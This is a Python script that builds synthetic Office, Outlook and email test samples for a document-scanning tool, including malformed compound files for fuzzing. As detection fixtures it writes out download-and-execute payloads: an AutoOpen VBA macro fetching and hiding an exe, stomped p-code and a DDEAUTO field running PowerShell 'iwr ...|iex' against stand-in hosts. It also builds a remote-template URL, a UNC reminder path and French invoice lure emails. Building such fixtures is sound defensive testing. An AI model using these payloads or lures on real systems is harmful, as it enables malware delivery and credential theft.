#!/usr/bin/env python3
"""Builds the Office test files of tests/data/office/ and the office goldens of tests/golden/messages/.

Everything is written from scratch here, nothing is copied from real documents and nothing runs:
a Compound File Binary writer ([MS-CFB] version 3, 512-byte sectors, mini stream for small
streams), the MS-OVBA compression (uncompressed 4096-byte chunks, then a literal-only chunk: a
valid container every decompressor reads), the VBA `dir` stream records, and zip packages (OOXML)
with python3's zipfile. The VBA "p-code" parts are stand-in bytes holding the identifiers and
string literals that compiled code would hold, which is all vigie's stomping heuristic reads.
Hostile variants (sector loops, bad sector shift, oversized stream) are byte patches of a good file.

Run from the repository root:  python3 tests/data/office/make_office_samples.py
"""
import base64
import io
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
GOLDEN = os.path.join(ROOT, "tests", "golden", "messages")
FUZZ = os.path.join(ROOT, "fuzz", "seeds")

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR, MINI, CUTOFF = 512, 64, 4096


# ---- Compound File Binary writer ---------------------------------------------------------------

class Storage:
    def __init__(self, name, children=None, clsid=b"\0" * 16):
        self.name, self.children, self.clsid = name, children or [], clsid


class Stream:
    def __init__(self, name, data):
        self.name, self.data = name, data


def _sort_key(entry):
    return (len(entry.name), entry.name.upper())


def fat_sectors_used(fat):
    return [s for s in fat if s != FREESECT]


def write_cfb(children, layout=None):
    """A version 3 compound file whose root holds `children`. `layout`, when a dict, receives the
    sector numbers of every regular stream ("path" -> [sectors]) and of the directory."""
    entries = []  # (object, type, parent path)

    def walk(node, path):
        index = len(entries)
        entries.append([node, path, None, NOSTREAM, NOSTREAM, NOSTREAM])  # node, path, -, left, right, child
        if isinstance(node, Storage) or node is None:
            kids = sorted(node.children if node else [], key=_sort_key)
            indices = [walk(kid, (path + "/" if path else "") + kid.name) for kid in kids]
            # A degenerate tree: the first child, each linked to the next by its right sibling.
            if indices:
                entries[index][5] = indices[0]
                for a, b in zip(indices, indices[1:]):
                    entries[a][4] = b
        return index

    root = Storage("Root Entry", children)
    walk(root, "")

    mini_stream = bytearray()
    mini_fat = []
    regular = []  # (entry index, data)
    starts = {}
    for i, e in enumerate(entries):
        node = e[0]
        if isinstance(node, Stream):
            if len(node.data) < CUTOFF:
                if not node.data:
                    starts[i] = ENDOFCHAIN
                    continue
                first = len(mini_stream) // MINI
                count = (len(node.data) + MINI - 1) // MINI
                mini_fat.extend(range(first + 1, first + count))
                mini_fat.append(ENDOFCHAIN)
                mini_stream += node.data + b"\0" * (count * MINI - len(node.data))
                starts[i] = first
            else:
                regular.append((i, node.data))

    def sectors_of(n):
        return (n + SECTOR - 1) // SECTOR

    dir_sectors = sectors_of(len(entries) * 128)
    minifat_sectors = sectors_of(len(mini_fat) * 4)
    ministream_sectors = sectors_of(len(mini_stream))
    data_sectors = sum(sectors_of(len(d)) for _, d in regular)
    fat_sectors = 1
    while True:
        total = fat_sectors + dir_sectors + minifat_sectors + ministream_sectors + data_sectors
        if fat_sectors * (SECTOR // 4) >= total:
            break
        fat_sectors += 1
    assert fat_sectors <= 109
    fat = []
    fat.extend([FATSECT] * fat_sectors)

    def chain(count):
        first = len(fat)
        fat.extend(range(first + 1, first + count))
        fat.append(ENDOFCHAIN)
        return list(range(first, first + count))

    dir_chain = chain(dir_sectors)
    minifat_chain = chain(minifat_sectors) if minifat_sectors else []
    ministream_chain = chain(ministream_sectors) if ministream_sectors else []
    regular_chains = {}
    for i, d in regular:
        regular_chains[i] = chain(sectors_of(len(d)))
        starts[i] = regular_chains[i][0]
    fat.extend([FREESECT] * (fat_sectors * (SECTOR // 4) - len(fat)))

    def dir_entry(i):
        node, path, _, left, right, child = entries[i]
        name = node.name.encode("utf-16-le") + b"\0\0"
        assert len(name) <= 64
        if i == 0:
            kind, start, size = 5, (ministream_chain[0] if ministream_chain else ENDOFCHAIN), len(mini_stream)
        elif isinstance(node, Storage):
            kind, start, size = 1, 0, 0
        else:
            kind, start, size = 2, starts[i], len(node.data)
        clsid = node.clsid if isinstance(node, Storage) else b"\0" * 16
        return (name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), kind, 1, left, right, child) + clsid +
                struct.pack("<IQQIQ", 0, 0, 0, start, size))

    directory = b"".join(dir_entry(i) for i in range(len(entries)))
    assert len(directory) == 128 * len(entries)
    directory += (b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM) + b"\0" * 48) * (
        (dir_sectors * SECTOR - len(directory)) // 128)

    header = bytearray(512)
    header[0:8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, fat_sectors, dir_chain[0], 0, CUTOFF,
                     minifat_chain[0] if minifat_chain else ENDOFCHAIN, minifat_sectors, ENDOFCHAIN, 0)
    difat = list(range(fat_sectors)) + [FREESECT] * (109 - fat_sectors)
    struct.pack_into("<109I", header, 0x4C, *difat)

    def pad(b):
        return bytes(b) + b"\0" * (-len(b) % SECTOR)

    assert len(directory) == dir_sectors * SECTOR
    body = pad(struct.pack("<%dI" % len(fat), *fat)) + pad(directory)
    body += pad(struct.pack("<%dI" % len(mini_fat), *mini_fat)) if mini_fat else b""
    body += pad(mini_stream) if mini_stream else b""
    for i, d in regular:
        body += pad(d)
    assert len(body) == SECTOR * len(fat_sectors_used(fat))
    if layout is not None:
        layout["directory"] = dir_chain
        layout["fat"] = list(range(fat_sectors))
        for i, d in regular:
            layout[entries[i][1]] = regular_chains[i]
    return bytes(header) + body


# ---- MS-OVBA -----------------------------------------------------------------------------------

def ovba_compress(data):
    out = bytearray(b"\x01")
    for at in range(0, len(data), 4096):
        chunk = data[at:at + 4096]
        if len(chunk) == 4096:
            out += struct.pack("<H", 0x3000 | 4095) + chunk
            continue
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)
            body += chunk[i:i + 8]
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def record(rid, data):
    return struct.pack("<HI", rid, len(data)) + data


def dir_stream(modules, project="Project", code_page=1252):
    d = record(0x01, struct.pack("<I", 1)) + record(0x02, struct.pack("<I", 0x409))
    d += record(0x14, struct.pack("<I", 0x409)) + record(0x03, struct.pack("<H", code_page))
    d += record(0x04, project.encode("cp1252")) + record(0x05, b"") + record(0x40, b"")
    d += record(0x06, b"") + record(0x3D, b"") + record(0x07, struct.pack("<I", 0))
    d += record(0x08, struct.pack("<I", 0)) + struct.pack("<HIIH", 0x09, 4, 1, 0)
    d += record(0x0C, b"") + record(0x3C, b"")
    d += record(0x0F, struct.pack("<H", len(modules))) + record(0x13, struct.pack("<H", 0xFFFF))
    for name, offset, document in modules:
        d += record(0x19, name.encode("cp1252")) + record(0x47, name.encode("utf-16-le"))
        d += record(0x1A, name.encode("cp1252")) + record(0x32, name.encode("utf-16-le"))
        d += record(0x1C, b"") + record(0x48, b"") + record(0x31, struct.pack("<I", offset))
        d += record(0x1E, struct.pack("<I", 0)) + record(0x2C, struct.pack("<H", 0xFFFF))
        d += record(0x22 if document else 0x21, b"") + record(0x2B, b"")
    d += record(0x10, b"")
    return ovba_compress(d)


def vba_storage(modules, identifiers):
    """modules: (name, source text, compiled stand-in bytes, document module)."""
    streams = []
    table = []
    for name, source, compiled, document in modules:
        stream = compiled + (ovba_compress(source.encode("cp1252")) if source is not None else b"")
        streams.append(Stream(name, stream))
        table.append((name, len(compiled), document))
    # _VBA_PROJECT: the 7-byte header of 2.3.4.1, then a stand-in for the identifier table.
    ids = b"".join(struct.pack("<H", len(i)) + i.encode() for i in identifiers)
    streams += [Stream("dir", dir_stream(table)), Stream("_VBA_PROJECT", b"\xCC\x61\xFF\xFF\x00\x00\x00" + ids)]
    project = ('ID="{00000000-0000-0000-0000-000000000000}"\r\n' +
               "".join(("Document=%s/&H00000000\r\n" if d else "Module=%s\r\n") % n for n, _, _, d in modules) +
               'Name="Project"\r\n').encode()
    return [Stream("PROJECT", project), Storage("VBA", streams)]


AUTOOPEN_SOURCE = ('Attribute VB_Name = "Module1"\r\n'
                   "Sub AutoOpen()\r\n"
                   "    Dim path As String\r\n"
                   '    path = Environ("TEMP") & "\\upd.exe"\r\n'
                   '    URLDownloadToFile 0, "http://update-check.example.net/upd.exe", path, 0, 0\r\n'
                   '    Shell path, vbHide\r\n'
                   "End Sub\r\n"
                   "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" "
                   "(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As LongPtr, "
                   "ByVal e As LongPtr) As Long\r\n")
THISDOCUMENT_SOURCE = ('Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
                       "Attribute VB_Creatable = False\r\nAttribute VB_PredeclaredId = True\r\n")
BENIGN_SOURCE = ('Attribute VB_Name = "Module1"\r\n'
                 "' Montant TTC : le montant hors taxes majoré de 20 %\r\n"
                 "Function AddVat(amount As Double) As Double\r\n"
                 "    AddVat = amount * 1.2\r\n"
                 "End Function\r\n")
# What a stomping tool leaves: the benign source over compiled code that still does the work.
STOMPED_COMPILED = (b"\x01\x16\x03\x00" + b"\0" * 60 + b"AutoOpen\0Shell\0" +
                    b'powershell -nop -w hidden -c "iwr http://cdn-static.example.org/a.ps1|iex"\0' + b"\0" * 40)


def pcode(*identifiers):
    return b"\x01\x16\x03\x00" + b"\0" * 28 + b"".join(i.encode() + b"\0" for i in identifiers) + b"\0" * 16


def vba_project_bin(kind):
    if kind == "autoopen":
        modules = [("ThisDocument", THISDOCUMENT_SOURCE, pcode(), True),
                   ("Module1", AUTOOPEN_SOURCE, pcode("http://update-check.example.net/upd.exe"), False)]
        ids = ["ThisDocument", "Module1", "AutoOpen", "path", "Environ", "URLDownloadToFile", "Shell", "vbHide"]
    elif kind == "stomped":
        modules = [("ThisDocument", THISDOCUMENT_SOURCE, pcode(), True),
                   ("Module1", BENIGN_SOURCE, STOMPED_COMPILED, False)]
        ids = ["ThisDocument", "Module1", "AutoOpen", "Shell", "AddVat", "amount"]
    elif kind == "source_removed":
        modules = [("ThisDocument", THISDOCUMENT_SOURCE, pcode(), True),
                   ("Module1", None, STOMPED_COMPILED, False)]
        ids = ["ThisDocument", "Module1", "AutoOpen", "Shell"]
    else:
        modules = [("ThisDocument", THISDOCUMENT_SOURCE, pcode(), True),
                   ("Module1", BENIGN_SOURCE, pcode(), False)]
        ids = ["ThisDocument", "Module1", "AddVat", "amount"]
    return modules, ids


def word_doc(kind):
    modules, ids = vba_project_bin(kind)
    return write_cfb([Stream("WordDocument", b"\xEC\xA5\xC1\x00" + b"\0" * 600), Stream("1Table", b"\0" * 64),
                      Storage("Macros", vba_storage(modules, ids))])


def vba_bin(kind):
    modules, ids = vba_project_bin(kind)
    return write_cfb(vba_storage(modules, ids))


def ole10native(label, content):
    body = struct.pack("<H", 2) + label.encode() + b"\0" + ("C:\\Users\\a\\" + label).encode() + b"\0"
    body += struct.pack("<HH", 0, 3)
    temp = ("C:\\Users\\a\\AppData\\Local\\Temp\\" + label).encode() + b"\0"
    body += struct.pack("<I", len(temp)) + temp + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


FAKE_PE = b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200


# A shell link header ([MS-SHLLINK] 2.1: size 0x4C, the link CLSID), nothing after it.
FAKE_LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46" + b"\0" * 56


def package_object(label, content):
    return write_cfb([Stream("\x01Ole10Native", ole10native(label, content)),
                      Stream("\x01CompObj", b"\x01\x00\xFE\xFF" + b"\0" * 40)])


EQUATION_CLSID = bytes.fromhex("02CE020000000000C000000000000046")


def equation_doc():
    """A .doc whose ObjectPool holds an Equation 3.0 object: its class id and an Equation Native
    stream (a 28-byte EQNOLEFILEHDR and a few MTEF bytes, no exploit)."""
    native = struct.pack("<HIIIII", 28, 0x000A0000, 0, 0, 0, 0) + b"\0" * 6 + b"\x03\x01\x01\x03\x0A"
    return write_cfb([Stream("WordDocument", b"\xEC\xA5\xC1\x00" + b"\0" * 600),
                      Storage("ObjectPool", [Storage("_1234567890", [
                          Stream("\x01Ole", b"\x01\x00\x00\x02" + b"\0" * 16),
                          Stream("Equation Native", native)], clsid=EQUATION_CLSID)])])


def biff_record(rtype, data):
    return struct.pack("<HH", rtype, len(data)) + data


def excel4_xls():
    name = "Macro1".encode()
    bof = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0))
    boundsheets = biff_record(0x0085, struct.pack("<IBB", 0, 0, 0) + bytes([5, 0]) + b"Sheet") + \
        biff_record(0x0085, struct.pack("<IBB", 0, 2, 1) + bytes([len(name), 0]) + name)
    # Lbl: a built-in name (fBuiltin 0x20), one character 0x01 = Auto_Open, on sheet 2.
    label = biff_record(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, 0, 0, 2, 0, 0, 0, 0) + b"\x00\x01")
    workbook = bof + boundsheets + label + biff_record(0x000A, b"")
    return write_cfb([Stream("Workbook", workbook)])


def encrypted_ooxml():
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    return write_cfb([Stream("EncryptionInfo", info), Stream("EncryptedPackage", struct.pack("<Q", 5000) + b"\x5A" * 5000),
                      Storage("\x06DataSpaces", [Stream("Version", b"\0" * 76)])])


def outlook_msg(reminder, attachment=None):
    """An Outlook appointment (.msg, [MS-OXMSG]) whose PidLidReminderFileParameter (LID 0x851F in
    PSETID_Common) is `reminder`: the named property maps to property id 0x8005."""
    psetid_common = bytes.fromhex("0820060000000000C000000000000046")
    entry = struct.pack("<II", 0x851F, (5 << 16) | (3 << 1))  # property index 5, GUID index 3, numeric
    return write_cfb([
        Storage("__nameid_version1.0", [Stream("__substg1.0_00020102", psetid_common),
                                        Stream("__substg1.0_00030102", entry),
                                        Stream("__substg1.0_00040102", b"")]),
        Stream("__substg1.0_001A001F", "IPM.Appointment".encode("utf-16-le")),
        Stream("__substg1.0_0037001F", "Point hebdomadaire".encode("utf-16-le")),
        Stream("__substg1.0_8005001F", reminder.encode("utf-16-le")),
        Stream("__properties_version1.0", b"\0" * 32),
    ] + ([Storage("__attach_version1.0_#00000000", [
        Stream("__substg1.0_3707001F", attachment[0].encode("utf-16-le")),
        Stream("__substg1.0_37010102", attachment[1]),
        Stream("__properties_version1.0", b"\0" * 16)])] if attachment else []))


# ---- OOXML packages ----------------------------------------------------------------------------

CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
      '<Override PartName="/word/document.xml" ContentType="%s"/></Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'officeDocument" Target="word/document.xml"/></Relationships>')
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*items):
    body = "".join('<Relationship Id="rId%d" Type="%s" Target="%s"%s/>' % (
        i + 1, t, target, ' TargetMode="External"' if external else "") for i, (t, target, external) in enumerate(items))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + body +
            "</Relationships>")


def document(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>' + body +
            "</w:body></w:document>")


PARA = "<w:p><w:r><w:t>%s</w:t></w:r></w:p>"


def package(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 12, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buffer.getvalue()


def docm_autoopen():
    return package([
        ("[Content_Types].xml", CT % "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", document(PARA % "Veuillez activer le contenu pour afficher la facture.")),
        ("word/_rels/document.xml.rels", rels(("http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                               "vbaProject.bin", False))),
        ("word/vbaProject.bin", vba_bin("autoopen")),
    ])


def docx_remote_template(target="http://office-templates.example.com/invoice.dotm"):
    return package([
        ("[Content_Types].xml", CT % "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
        ("_rels/.rels", ROOT_RELS),
        ("word/document.xml", document(PARA % "Ordre de mission 2026")),
        ("word/_rels/document.xml.rels", rels((R + "settings", "settings.xml", False))),
        ("word/settings.xml", '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
                              'wordprocessingml/2006/main" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/>'
                              "</w:settings>" % R[:-1]),
        ("word/_rels/settings.xml.rels", rels((R + "attachedTemplate", target, True))),
    ])


DDE_BODY = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
            '</w:instrText></w:r><w:r><w:instrText>c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -c '
            'iwr http://cdn-static.example.org/p.ps1 | iex"</w:instrText></w:r><w:r><w:fldChar '
            'w:fldCharType="end"/></w:r></w:p>')


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def eml(subject, filename, content_type, data, text):
    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return ("From: \"Service Comptabilite\" <compta@fournisseur-exemple.net>\r\n"
            "To: agent@ministere.example.fr\r\n"
            "Subject: %s\r\n"
            "Date: Mon, 07 Dec 2026 08:00:00 +0100\r\n"
            "Message-ID: <office-%s@fournisseur-exemple.net>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n"
            "--b1\r\nContent-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s--b1--\r\n" % (
                subject, filename.replace(".", "-"), text, content_type, filename, filename, b64)).encode()


def main():
    samples = {
        "vba_autoopen.doc": word_doc("autoopen"),
        "vba_stomped.doc": word_doc("stomped"),
        "vba_source_removed.doc": word_doc("source_removed"),
        "vba_benign.doc": word_doc("benign"),
        "vbaProject_autoopen.bin": vba_bin("autoopen"),
        "package_exe.bin": package_object("facture.pdf.exe", FAKE_PE),
        "excel4_macro.xls": excel4_xls(),
        "equation.doc": equation_doc(),
        "encrypted.docx": encrypted_ooxml(),
        "autoopen.docm": docm_autoopen(),
        "remote_template.docx": docx_remote_template(),
        "reminder_unc.msg": outlook_msg("\\\\203.0.113.9\\share\\ding.wav"),
        "reminder_local.msg": outlook_msg("C:\\Windows\\Media\\Alarm01.wav",
                                          ("ordre_du_jour.pdf.lnk", FAKE_LNK)),
    }
    # A stream larger than the mini stream cutoff, in regular sectors, for the reader's tests.
    layout = {}
    big = write_cfb([Stream("Big", bytes(range(256)) * 40), Stream("small", b"hello")], layout)
    samples["big_stream.cfb"] = big
    # Hostile: the big stream's sixth sector points back at its first (a loop).
    fat_at = 512 * (1 + layout["fat"][0])
    loop = bytearray(big)
    struct.pack_into("<I", loop, fat_at + 4 * layout["Big"][5], layout["Big"][0])
    samples["loop.cfb"] = bytes(loop)
    # Hostile: the directory chain points at itself.
    dir_loop = bytearray(big)
    struct.pack_into("<I", dir_loop, fat_at + 4 * layout["directory"][0], layout["directory"][0])
    samples["directory_loop.cfb"] = bytes(dir_loop)
    # Hostile: a sector shift of 20 (1 MiB sectors).
    shift = bytearray(big)
    struct.pack_into("<H", shift, 0x1E, 20)
    samples["bad_shift.cfb"] = bytes(shift)
    for name, data in samples.items():
        write(os.path.join(HERE, name), data)

    for target, names in (("cfb", ["vba_autoopen.doc", "package_exe.bin", "excel4_macro.xls", "loop.cfb",
                                   "directory_loop.cfb", "encrypted.docx", "reminder_unc.msg", "reminder_local.msg",
                                   "equation.doc"]),):
        os.makedirs(os.path.join(FUZZ, "cfb"), exist_ok=True)
        for name in names:
            write(os.path.join(FUZZ, "cfb", name), samples[name])
    os.makedirs(os.path.join(FUZZ, "ovba"), exist_ok=True)
    write(os.path.join(FUZZ, "ovba", "spec_3_2_2.bin"), bytes.fromhex(
        "012FB000236161616263646582660070616768696A013808616B6C00306D6E6F700671027004107273747576107778797A003C"))
    write(os.path.join(FUZZ, "ovba", "dir.bin"), dir_stream([("Module1", 24, False), ("ThisDocument", 0, True)]))
    write(os.path.join(FUZZ, "ovba", "source.bin"), ovba_compress(AUTOOPEN_SOURCE.encode() * 20))

    os.makedirs(GOLDEN, exist_ok=True)
    write(os.path.join(GOLDEN, "office-docm-autoopen.eml"), eml(
        "Facture 2026-1187 en attente", "facture_2026-1187.docm",
        "application/vnd.ms-word.document.macroEnabled.12", samples["autoopen.docm"],
        "Bonjour,\r\n\r\nVeuillez trouver ci-joint la facture en attente de reglement.\r\n"
        "Activez le contenu pour l'afficher.\r\n\r\nCordialement"))
    write(os.path.join(GOLDEN, "office-docx-remote-template.eml"), eml(
        "Ordre de mission", "ordre_de_mission.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", samples["remote_template.docx"],
        "Bonjour,\r\n\r\nVoici l'ordre de mission pour la reunion de jeudi.\r\n\r\nCordialement"))
    write(os.path.join(GOLDEN, "outlook-msg-reminder-unc.eml"), eml(
        "Point hebdomadaire", "point_hebdomadaire.msg", "application/vnd.ms-outlook", samples["reminder_unc.msg"],
        "Bonjour,\r\n\r\nJe vous transmets l'invitation au point hebdomadaire.\r\n\r\nCordialement"))
    write(os.path.join(GOLDEN, "office-doc-autoopen.eml"), eml(
        "Releve de compte", "releve.doc", "application/msword", samples["vba_autoopen.doc"],
        "Bonjour,\r\n\r\nVotre releve est en piece jointe.\r\n\r\nCordialement"))


if __name__ == "__main__":
    main()
